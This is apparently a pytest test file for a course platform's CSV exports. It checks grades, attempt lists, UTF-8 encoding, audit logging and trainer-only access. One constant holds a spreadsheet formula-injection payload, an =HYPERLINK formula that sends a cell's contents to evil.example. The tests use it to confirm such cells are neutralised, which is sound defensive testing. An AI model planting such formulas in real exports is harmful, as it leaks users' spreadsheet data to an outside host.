"""CSV exports: the right numbers for the sections in view, safe in a spreadsheet, UTF-8 with a
byte-order mark, audited, and refused to anyone but the cohort's trainers and administrators."""

from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa

from course.errors import NotAllowed, NotFound
from course.services import audit, cohorts, exports, quizzes
from course.services.access import Actor
from course.store.db import transaction
from course.store.models import User
from tests.conftest import ADMIN, Academy, make_academy
from tests.helpers import answer_all

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
URDU = "عائشہ صدیقی"
ROSTER = "\n".join(
    [
        "username,full_name,section",
        f'mallory,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",A',
        "plus,+1,A",
        "minus,-2,A",
        "at,@x,A",
        f"ayesha,{URDU},A",
    ]
)


def rows_of(export: exports.Export) -> list[dict[str, str]]:
    assert export.data.startswith(b"\xef\xbb\xbf")  # the byte-order mark
    return list(csv.DictReader(io.StringIO(export.data.decode("utf-8-sig"))))


def take(learner: Actor, right: int) -> None:
    attempt = quizzes.start_attempt(learner, "ei-quiz").id
    answer_all(learner, attempt, right=right)
    quizzes.finish_attempt(learner, attempt)


@pytest.fixture
def school(database: str) -> Academy:
    academy = make_academy()
    take(academy.learners["learner_a1"], 4)
    take(academy.learners["learner_a1"], 9)
    take(academy.learners["learner_b1"], 7)
    return academy


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ayan Awan", "Ayan Awan"),
        ("a=b", "a=b"),
        (0.9, "0.9"),
        (None, ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(cell: object, written: str) -> None:
    assert exports.neutralise(cell) == written


def test_scores_export_has_grades_attempts_and_mastery_of_the_section(school: Academy) -> None:
    export = exports.scores_csv(school.trainers["trainer_a"], school.ids["ctp"])
    rows = rows_of(export)
    assert export.filename == "ctp-2027-scores.csv" and export.rows == 3
    assert [r["username"] for r in rows] == ["learner_a1", "learner_a2", "learner_a3"]
    first = rows[0]
    assert (first["full_name"], first["section"]) == ("Learner A1", "A")
    # the highest of 0.4 and 0.9 (ei-quiz grades the highest), passing at 70 %
    assert (first["ei-quiz grade"], first["ei-quiz passed"], first["ei-quiz attempts"]) == (
        "0.9",
        "yes",
        "2",
    )
    assert (first["coi-quiz grade"], first["coi-quiz passed"], first["coi-quiz attempts"]) == (
        "",
        "",
        "0",
    )
    # 13 right answers of 20 on epistemic-insularity questions; nothing on the others
    assert first["mastery epistemic-insularity"] == "0.65"
    assert first["mastery conflict-of-interest"] == ""
    assert rows[1]["ei-quiz attempts"] == "0" and rows[1]["mastery epistemic-insularity"] == ""
    whole = rows_of(exports.scores_csv(ADMIN, school.ids["ctp"]))
    assert len(whole) == 6
    b1 = next(r for r in whole if r["username"] == "learner_b1")
    assert (b1["ei-quiz grade"], b1["ei-quiz passed"]) == ("0.7", "yes")


def test_attempts_export_lists_each_finished_attempt(school: Academy) -> None:
    export = exports.attempts_csv(school.trainers["trainer_a"], school.ids["ctp"])
    rows = rows_of(export)
    assert export.filename == "ctp-2027-attempts.csv"
    assert [(r["username"], r["quiz"], r["attempt"], r["score"], r["passed"]) for r in rows] == [
        ("learner_a1", "ei-quiz", "1", "0.4", "no"),
        ("learner_a1", "ei-quiz", "2", "0.9", "yes"),
    ]
    assert rows[0]["started"] and rows[0]["finished"]


def test_hostile_and_urdu_names_from_a_roster_are_safe_and_round_trip(school: Academy) -> None:
    cohorts.import_roster(ADMIN, "CTP 2027", ROSTER)
    with transaction() as db:  # a name with a leading tab, as an older record might hold
        db.execute(sa.update(User).where(User.username == "plus").values(full_name="\tx"))
    text = exports.scores_csv(school.trainers["trainer_a"], school.ids["ctp"]).data
    names = {r["username"]: r["full_name"] for r in rows_of(exports.Export("x", text, 0))}
    assert names["mallory"] == "'" + HYPERLINK
    assert names["minus"] == "'-2" and names["at"] == "'@x" and names["plus"] == "'\tx"
    assert names["ayesha"] == URDU
    assert URDU.encode("utf-8") in text  # as UTF-8, not escaped or transliterated
    for line in text.decode("utf-8-sig").splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(exports.RISKY_STARTS)


def test_every_export_is_audited(school: Academy) -> None:
    exports.scores_csv(school.trainers["trainer_a"], school.ids["ctp"])
    exports.attempts_csv(ADMIN, school.ids["ctp"])
    rows = [r for r in audit.recent(ADMIN) if r.action.endswith(".export")]
    assert [(r.who, r.action, r.target) for r in rows] == [
        ("command line", "attempts.export", f"cohort {school.ids['ctp']}"),
        ("trainer_a", "scores.export", f"cohort {school.ids['ctp']}"),
    ]
    assert "rows=3" in rows[1].detail


def test_only_the_cohorts_trainers_and_administrators_may_export(school: Academy) -> None:
    refused = [
        school.trainers["viewer"],
        school.learners["learner_a1"],
        school.trainers["trainer_r"],
        Actor(user_id=school.trainers["trainer_a"].user_id, username="x", full_name="x"),
    ]
    for actor in refused:
        for export in (exports.scores_csv, exports.attempts_csv):
            with pytest.raises(NotAllowed):
                export(actor, school.ids["ctp"])
        with pytest.raises(NotAllowed):
            exports.cohort_named(actor, "CTP 2027")
    assert not [r for r in audit.recent(ADMIN) if r.action.endswith(".export")]
    assert exports.cohort_named(school.trainers["trainer_a"], "CTP 2027") == school.ids["ctp"]
    with pytest.raises(NotFound):
        exports.cohort_named(ADMIN, "No such cohort")
    with pytest.raises(NotAllowed):  # a trainer learns nothing about other cohorts' names
        exports.cohort_named(school.trainers["trainer_a"], "No such cohort")


def test_an_empty_section_exports_a_header(database: str) -> None:
    academy = make_academy(learners_per_section=0)
    rows = exports.scores_csv(academy.trainers["trainer_a"], academy.ids["ctp"])
    assert rows.rows == 0
    assert rows.data.decode("utf-8-sig").startswith("username,full_name,section,")
